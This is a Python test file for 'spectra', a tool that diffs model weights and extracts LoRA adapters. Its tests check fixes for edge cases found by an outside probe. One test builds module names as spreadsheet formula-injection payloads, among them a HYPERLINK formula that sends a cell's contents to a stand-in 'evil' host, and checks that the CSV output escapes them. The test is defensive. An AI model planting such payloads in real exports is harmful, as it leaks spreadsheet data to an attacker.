"""Hostile and odd inputs found by the fourth outside probe: each test reproduces a finding and checks
the fix against an independent reference (numpy float64 SVD, PEFT itself) or the one-line error."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import numpy as np
import pytest
import torch
from click.testing import CliRunner
from safetensors.torch import load_file, save_file

from spectra.errors import CheckpointFormatError, ConfigError
from spectra.extract import extract
from spectra.extract_plan import ExtractConfig
from spectra.metrics import energy_rank, numerical_rank
from spectra_cli.main import main
from tests.conftest import random_lora
from tests.pair_util import save_folder as _save

transformers = pytest.importorskip("transformers")
peft = pytest.importorskip("peft")

TINY = dict(hidden_size=32, intermediate_size=64, num_hidden_layers=2, num_attention_heads=4, num_key_value_heads=2,
            vocab_size=64)


@pytest.fixture(scope="module")
def llama(tmp_path_factory):
    """A tiny Llama base, a tuned copy (rank-2 update on every matrix, float32) and a PEFT LoRA (r = 4)."""
    root = tmp_path_factory.mktemp("h4")
    torch.manual_seed(0)
    transformers.LlamaForCausalLM(transformers.LlamaConfig(**TINY)).save_pretrained(root / "base")
    sd = load_file(str(root / "base" / "model.safetensors"))
    g = torch.Generator().manual_seed(1)
    tuned = {k: (v + 0.01 * torch.randn(v.shape[0], 2, generator=g) @ torch.randn(2, v.shape[1], generator=g)
                 if v.ndim == 2 else v) for k, v in sd.items()}
    _save(root / "tuned", tuned)
    shutil.copy(root / "base" / "config.json", root / "tuned" / "config.json")
    model = transformers.AutoModelForCausalLM.from_pretrained(root / "base")
    random_lora(model, 0, r=4, lora_alpha=16, target_modules=["q_proj", "v_proj"]).save_pretrained(root / "adapter")
    return root, sd, tuned


# ---- 1. --out being the input adapter: refused before anything is deleted -----------------------------
@pytest.mark.parametrize("through_link", [False, True])
def test_extract_refuses_to_write_into_the_adapter_it_reads(llama, tmp_path, through_link):
    root, _, _ = llama
    ad = tmp_path / "ad"
    shutil.copytree(root / "adapter", ad)
    before = sorted(p.name for p in ad.iterdir())
    out = ad
    if through_link:
        out = tmp_path / "link"
        out.symlink_to(ad)
    res = CliRunner().invoke(main, ["extract", str(root / "base"), str(ad), "--out", str(out), "-r", "2", "--force"])
    assert res.exit_code != 0 and "--out is the folder of the input" in res.output
    assert "Traceback" not in res.output
    assert sorted(p.name for p in ad.iterdir()) == before  # nothing deleted
    # the adapter folder given as a model folder's parent-free path, through the library too
    with pytest.raises(ConfigError, match="folder of the input"):
        extract(str(root / "base"), str(ad), ad, config=ExtractConfig(rank=1), resume=True)
    assert sorted(p.name for p in ad.iterdir()) == before
    # a single-file input beside --out is not touched by the run (nothing of it has an output's name): allowed
    single = tmp_path / "single"
    single.mkdir()
    shutil.copy(root / "tuned" / "model.safetensors", single / "tuned.safetensors")
    res = extract(str(root / "base"), str(single / "tuned.safetensors"), single, config=ExtractConfig(rank=1), force=True,
                  plots=False)
    assert res.complete and (single / "tuned.safetensors").is_file() and (single / "adapter_model.safetensors").is_file()


# ---- 4. --rank above an adapter's rank: one line, before any work -------------------------------------
def test_extract_rank_above_the_adapters_rank_is_one_line_and_leaves_nothing(llama, tmp_path):
    root, _, _ = llama
    out = tmp_path / "ex"
    res = CliRunner().invoke(main, ["extract", str(root / "base"), str(root / "adapter"), "--out", str(out), "-r", "6",
                                    "--no-plots"])
    assert res.exit_code != 0 and "--rank 6 is above the rank r = 4 of the adapter's" in res.output
    assert "Traceback" not in res.output
    assert not (out / "extract.jsonl").exists() and not (out / ".extract-scratch").exists()
    ok = extract(str(root / "base"), str(root / "adapter"), tmp_path / "ok", config=ExtractConfig(rank=4), plots=False)
    assert {m["rank"] for m in ok.modules} == {4}


# ---- 5. factors the storage dtype cannot hold --------------------------------------------------------
def test_extract_refuses_factors_that_overflow_float16(tmp_path):
    g = torch.Generator().manual_seed(0)
    b = {"layers.0.q_proj.weight": torch.randn(16, 16, generator=g) * 1e9,
         "layers.0.k_proj.weight": torch.randn(16, 16, generator=g)}
    t = {"layers.0.q_proj.weight": b["layers.0.q_proj.weight"] + 3e9 * torch.randn(16, 1, generator=g) @ torch.randn(1, 16, generator=g),
         "layers.0.k_proj.weight": b["layers.0.k_proj.weight"] + 0.1 * torch.randn(16, 1, generator=g) @ torch.randn(1, 16, generator=g)}
    save_file(b, str(tmp_path / "b.safetensors"))
    save_file(t, str(tmp_path / "t.safetensors"))
    with pytest.raises(ConfigError, match="beyond the largest float16"):
        extract(str(tmp_path / "b.safetensors"), str(tmp_path / "t.safetensors"), tmp_path / "o16",
                config=ExtractConfig(rank=1, dtype="float16"), plots=False)
    assert not (tmp_path / "o16" / "adapter_model.safetensors").exists()
    res = extract(str(tmp_path / "b.safetensors"), str(tmp_path / "t.safetensors"), tmp_path / "o32",
                  config=ExtractConfig(rank=1, dtype="float32"), plots=False)
    written = load_file(str(tmp_path / "o32" / "adapter_model.safetensors"))
    assert all(bool(torch.isfinite(v).all()) for v in written.values()) and res.complete


# ---- 6. τ = 1: the numerical rank, not where a float64 sum stops changing ----------------------------
def test_energy_rank_at_tau_one_is_the_numerical_rank(rng):
    # a rank-2 update plus float32-rounding-level noise: the noise's singular values sit far below
    # σ₁·√(p·ε), the Gram route's resolution, and count as zero; the cumulative sum would stop anywhere
    U, _ = np.linalg.qr(rng.standard_normal((32, 32)))
    V, _ = np.linalg.qr(rng.standard_normal((32, 32)))
    S = np.concatenate([[0.3, 0.2], np.geomspace(1e-9, 1e-11, 30)])
    M = (U * S) @ V.T
    s = np.linalg.svd(M, compute_uv=False)
    assert energy_rank(s, 1.0) == numerical_rank(s) == 2
    assert energy_rank(np.array([3.0, 2.0, 1e-3]), 1.0) == 3  # a small but resolved value counts
    assert energy_rank(np.zeros(4), 1.0) == 0
    # a full-rank random matrix: every value resolved (the random baseline's answer at τ = 1)
    assert energy_rank(np.linalg.svd(rng.standard_normal((20, 30)), compute_uv=False), 1.0) == 20


def test_the_approximate_route_bounds_the_numerical_rank_at_tau_one():
    from spectra.sketch import energy_rank_bounds

    S = 10.0 ** (-np.arange(300) / 10)  # values down to 1e-30: the numerical rank is where they pass σ₁·√(p·ε)
    exact = numerical_rank(S)
    assert 0 < exact < 300
    r = energy_rank_bounds(S[:120], float((S**2).sum()), float((S[120:] ** 2).sum()), 1.0, 300)
    assert r.lo <= exact <= r.hi and r.lo == exact  # the sketch resolved values below the tolerance
    short = energy_rank_bounds(S[:20], float((S**2).sum()), float((S[20:] ** 2).sum()), 1.0, 300)
    assert short.lo <= exact <= short.hi  # the sketch ends above it: bounded, not claimed exact


def test_diff_and_extract_agree_at_tau_one(llama, tmp_path):
    root, sd, tuned = llama
    res = CliRunner().invoke(main, ["diff", str(root / "base"), str(root / "tuned"), "-t", "1.0", "--out", str(tmp_path / "d"),
                                    "--no-plots"])
    assert res.exit_code == 0, res.output
    doc = json.loads((tmp_path / "d" / "results.json").read_text())
    for m in doc["modules"]:
        d = (tuned[m["name"]].double() - sd[m["name"]].double()).numpy()
        s = np.linalg.svd(d, compute_uv=False)
        assert m["energy_rank"]["1.0"] == int((s > s[0] * np.sqrt(min(d.shape) * np.finfo(float).eps)).sum())
    ex = extract(str(root / "base"), str(root / "tuned"), tmp_path / "e", config=ExtractConfig(energy=1.0), plots=False)
    by_name = {m["name"]: m["energy_rank"]["1.0"] for m in doc["modules"]}
    assert all(m["rank"] == by_name[m["name"]] for m in ex.modules)


# ---- 7. a new diff into a used folder: no figure or report of the earlier run is left ----------------
def test_a_new_diff_removes_the_earlier_runs_figures_and_report(llama, tmp_path):
    root, _, _ = llama
    out = tmp_path / "o"
    assert CliRunner().invoke(main, ["diff", str(root / "base"), str(root / "tuned"), "--out", str(out), "--report"]).exit_code == 0
    assert (out / "report.html").is_file() and (out / "rank_heatmap.png").is_file()
    res = CliRunner().invoke(main, ["diff", str(root / "base"), str(root / "adapter"), "--out", str(out), "--no-plots"])
    assert res.exit_code == 0, res.output
    assert not (out / "report.html").exists() and not (out / "rank_heatmap.png").exists()
    assert json.loads((out / "results.json").read_text())["tuned"].endswith("adapter")
    # a folder that holds no earlier diff keeps its files, whatever their names
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "report.html").write_text("my notes")
    assert CliRunner().invoke(main, ["diff", str(root / "base"), str(root / "tuned"), "--out", str(mine), "--no-plots"]).exit_code == 0
    assert (mine / "report.html").read_text() == "my notes"


# ---- 8. names that a spreadsheet would run as formulas ----------------------------------------------
def test_csv_cells_that_start_a_formula_are_written_as_text(tmp_path):
    names = ['=HYPERLINK("http://evil/"&A1).weight', "+1+cmd.weight", "-2.weight", "@SUM(A1).weight", "\tTAB.weight"]
    g = torch.Generator().manual_seed(0)
    b = {n: torch.randn(8, 8, generator=g) for n in names}
    t = {n: v + 0.1 * torch.randn(8, 1, generator=g) @ torch.randn(1, 8, generator=g) for n, v in b.items()}
    save_file(b, str(tmp_path / "b.safetensors"))
    save_file(t, str(tmp_path / "t.safetensors"))
    assert CliRunner().invoke(main, ["diff", str(tmp_path / "b.safetensors"), str(tmp_path / "t.safetensors"), "--out",
                                     str(tmp_path / "d"), "--no-plots"]).exit_code == 0
    extract(str(tmp_path / "b.safetensors"), str(tmp_path / "t.safetensors"), tmp_path / "x", config=ExtractConfig(rank=1),
            plots=False)
    for f in (tmp_path / "d" / "results.csv", tmp_path / "x" / "extract.csv"):
        rows = list(csv.DictReader(f.open()))
        cells = [v for r in rows for v in r.values() if v]
        assert not any(c.startswith(("=", "+", "@", "\t")) for c in cells)
        assert {r["name"] for r in rows} == {"'" + n for n in names[:-1]} | {"\\tTAB.weight"}  # a TAB is escaped
    doc = json.loads((tmp_path / "d" / "results.json").read_text())  # the JSON keeps the names as they are
    assert {m["name"] for m in doc["modules"]} == set(names)


# ---- 9. PEFT target_parameters adapters: named, not "the config was edited" -------------------------
def test_a_target_parameters_adapter_is_refused_by_name(tmp_path):
    torch.manual_seed(0)
    cfg = transformers.MixtralConfig(hidden_size=32, intermediate_size=48, num_hidden_layers=1, num_attention_heads=4,
                                     num_key_value_heads=2, vocab_size=64, num_local_experts=4, num_experts_per_tok=2)
    m = transformers.MixtralForCausalLM(cfg)
    m.save_pretrained(tmp_path / "base")
    try:
        pm = peft.get_peft_model(m, peft.LoraConfig(r=4, target_modules=[], init_lora_weights=False,
                                                    target_parameters=["mlp.experts.gate_up_proj", "mlp.experts.down_proj"]))
    except (TypeError, ValueError) as exc:  # a PEFT without target_parameters
        pytest.skip(f"this PEFT cannot make target_parameters adapters: {exc}")
    pm.save_pretrained(tmp_path / "tp")
    from spectra.io.adapter import open_adapter

    with pytest.raises(CheckpointFormatError, match="target_parameters") as info:
        open_adapter(tmp_path / "tp")
    assert "edited" not in info.value.message
    res = CliRunner().invoke(main, ["diff", str(tmp_path / "base"), str(tmp_path / "tp")])
    assert "Traceback" not in res.output and "edited" not in res.output


# ---- 10. a selection that leaves nothing; names matched on either side ---------------------------------
def test_a_selection_that_matches_nothing_is_an_error_naming_the_filter(llama, tmp_path):
    root, sd, tuned = llama
    res = CliRunner().invoke(main, ["diff", str(root / "base"), str(root / "tuned"), "--include", "q_prj"])
    assert res.exit_code != 0 and "--include 'q_prj'" in res.output and "Traceback" not in res.output
    bare = {k.removeprefix("model."): v for k, v in sd.items() if k != "lm_head.weight"}
    save_file(bare, str(tmp_path / "bare.safetensors"))
    # a pattern written from the base's names (no "model." prefix) selects the same matrices
    for pattern in (r"^layers\.0\.", r"^model\.layers\.0\."):
        res = CliRunner().invoke(main, ["diff", str(tmp_path / "bare.safetensors"), str(root / "tuned"), "--include", pattern,
                                        "--out", str(tmp_path / pattern.strip("^\\.")), "--no-plots"])
        assert res.exit_code == 0, res.output
        names = {m["name"] for m in json.loads((tmp_path / pattern.strip("^\\.") / "results.json").read_text())["modules"]}
        assert len(names) == 7 and all(".layers.0." in n for n in names)


# ---- 2. a tied base against an untied tuned head -----------------------------------------------------
def _tied_pair(root: Path, seed: int = 1, names: tuple[str, ...] = ("tuned",)) -> dict[str, tuple[torch.Tensor, torch.Tensor]]:
    """A tied tiny Llama base (no lm_head stored) and untied tuned copies whose head and embedding both
    moved; name -> (head update, embedding update)."""
    torch.manual_seed(0)
    c = transformers.LlamaConfig(**{**TINY, "num_hidden_layers": 1, "tie_word_embeddings": True})
    m = transformers.LlamaForCausalLM(c)
    m.save_pretrained(root / "base")
    assert "lm_head.weight" not in load_file(str(root / "base" / "model.safetensors"))
    out = {}
    for j, name in enumerate(names):
        sd = {k: v.clone() for k, v in m.state_dict().items()}
        g = torch.Generator().manual_seed(seed + j)
        head = 0.05 * torch.randn(64, 1, generator=g) @ torch.randn(1, 32, generator=g)
        emb = 0.01 * torch.randn(64, 2, generator=g) @ torch.randn(2, 32, generator=g)
        sd["lm_head.weight"] = sd["model.embed_tokens.weight"] + head
        sd["model.embed_tokens.weight"] = sd["model.embed_tokens.weight"] + emb
        _save(root / name, sd, {**c.to_dict(), "tie_word_embeddings": False})
        out[name] = (head, emb)
    return out


def test_an_untied_tuned_head_pairs_with_the_tied_bases_embedding(tmp_path):
    update, emb = _tied_pair(tmp_path)["tuned"]
    res = CliRunner().invoke(main, ["diff", str(tmp_path / "base"), str(tmp_path / "tuned"), "--out", str(tmp_path / "d"),
                                    "--no-plots"])
    assert res.exit_code == 0, res.output
    doc = json.loads((tmp_path / "d" / "results.json").read_text())
    head = next(m for m in doc["modules"] if m["name"] == "lm_head.weight")
    s = np.linalg.svd(update.double().numpy(), compute_uv=False)
    assert head["fro_norm"] == pytest.approx(float(np.linalg.norm(s)), rel=1e-6)
    assert head["energy_rank"]["0.9"] == 1 and "ties its output head" in head["note"]
    assert "lm_head.weight" not in doc["unmatched"]["tuned_only"]
    embed = next(m for m in doc["modules"] if m["name"] == "model.embed_tokens.weight")
    assert embed["fro_norm"] == pytest.approx(float(torch.linalg.matrix_norm(emb.double())), rel=1e-6)
    # --exclude on the embedding's name leaves the head (its base name is the embedding's, not its own)
    res = CliRunner().invoke(main, ["diff", str(tmp_path / "base"), str(tmp_path / "tuned"), "--exclude", "embed_tokens",
                                    "--out", str(tmp_path / "x"), "--no-plots"])
    assert res.exit_code == 0, res.output
    names = {m["name"] for m in json.loads((tmp_path / "x" / "results.json").read_text())["modules"]}
    assert "lm_head.weight" in names and "model.embed_tokens.weight" not in names


def test_commands_keyed_by_base_name_keep_the_embedding_of_a_tied_base(tmp_path):
    """compare, interfere and trace match modules across inputs by the base name: the tied head's pair
    (whose base name is the embedding's) must not replace the embedding's own."""
    from spectra.comparison import compare
    from spectra.interfere import interfere

    ups = _tied_pair(tmp_path, names=("a", "b"))
    fro = {n: float(torch.linalg.matrix_norm(e.double())) for n, (_, e) in ups.items()}
    inter = interfere(str(tmp_path / "base"), [str(tmp_path / "a"), str(tmp_path / "b")], plots=False)
    emb = next(m for m in inter.modules if m["name"] == "model.embed_tokens.weight")
    assert emb["fro"] == pytest.approx([fro["a"], fro["b"]], rel=1e-6)
    cmp = compare(str(tmp_path / "a"), str(tmp_path / "b"), base=str(tmp_path / "base"), plots=False)
    rec = next(m for m in cmp.modules if m.name == "model.embed_tokens.weight")
    assert rec.fro_a == pytest.approx(fro["a"], rel=1e-6) and rec.fro_b == pytest.approx(fro["b"], rel=1e-6)


# ---- minor: trace of copied checkpoints, task_type of ...LMHeadModel --------------------------------
def test_trace_keeps_the_newest_checkpoint_when_no_checkpoint_has_a_trainer_state(llama, tmp_path):
    from spectra.trace_inputs import find_checkpoints

    root, _, _ = llama
    run = tmp_path / "run"
    for n in (5, 10, 20):
        shutil.copytree(root / "tuned", run / f"checkpoint-{n}")
    found = find_checkpoints([str(run)])
    assert [c.step for c in found.checkpoints] == [5, 10, 20] and not found.skipped
    (run / "checkpoint-5" / "trainer_state.json").write_text(json.dumps({"global_step": 5, "log_history": []}))
    (run / "checkpoint-10" / "trainer_state.json").write_text(json.dumps({"global_step": 10, "log_history": []}))
    found = find_checkpoints([str(run)])  # now the elder ones have theirs: the newest is probably being saved
    assert [c.step for c in found.checkpoints] == [5, 10] and "still being saved" in found.skipped[0]["reason"]


def test_task_type_of_an_lm_head_model_is_causal_lm():
    from spectra.io.peft_writer import task_type_for

    assert task_type_for({"architectures": ["GPT2LMHeadModel"]}) == "CAUSAL_LM"
    assert task_type_for({"architectures": ["T5WithLMHeadModel"]}) == "SEQ_2_SEQ_LM"  # the legacy T5 name
    assert task_type_for({"architectures": ["GPT2Model"]}) == "FEATURE_EXTRACTION"


def test_interfere_warns_about_a_task_that_changed_nothing(llama, tmp_path):
    from spectra.interfere import interfere

    root, _, _ = llama
    same = tmp_path / "same"
    shutil.copytree(root / "base", same)
    res = interfere(str(root / "base"), [str(same), str(root / "tuned")], plots=False)
    assert any("ΔW = 0 on every compared matrix" in w and "same" in w for w in res.warnings)
    assert not any("ΔW = 0 on every" in w and "tuned" in w.split(":")[0] for w in res.warnings)
